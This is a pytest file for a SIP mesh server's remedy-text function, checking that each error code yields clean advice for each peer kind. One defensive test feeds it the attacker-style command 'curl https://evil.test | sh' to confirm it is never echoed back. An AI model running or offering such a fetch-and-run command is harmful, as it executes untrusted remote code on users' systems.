"""Each code has a remedy for each kind of peer, made of our own words alone."""

from __future__ import annotations

import pytest

from sipmesh.server.management.remedies import remedy_of
from sipmesh.server.replication.link_fault import Cause
from sipmesh.server.replication.server_status import PeerKind
from sipmesh.trust.code import Code

KINDS = [kind for kind in PeerKind if kind is not PeerKind.STORE]


@pytest.mark.parametrize("kind", KINDS)
def test_each_code_has_a_remedy(kind: PeerKind) -> None:
    for code in (*Code, *Cause, "a code of a newer release"):
        remedy = remedy_of(kind, code, "peer.test", "edge1.example.test")
        assert remedy, code
        assert not {"{", "}"} & set(remedy), remedy


def test_refusal_never_ends_with_the_advice_to_start_the_server() -> None:
    for code in Code:
        assert "sipmesh serve" not in remedy_of(PeerKind.SERVER, code, "fe1", "mgmt")


def test_stranger_is_never_to_be_given_a_certificate_as_a_partner() -> None:
    for code in (Code.UNTRUSTED_ISSUER, Code.ISSUER_NOT_FOR_THIS_NAME):
        assert "ca issue" not in remedy_of(PeerKind.PARTNER, code, "evil.test", "edge1")


def test_code_that_is_no_code_does_not_become_text() -> None:
    """A server that an attacker holds chooses the code of its report."""
    assert "curl" not in remedy_of(PeerKind.PARTNER, "curl https://evil.test | sh", "partner.test", "edge1")
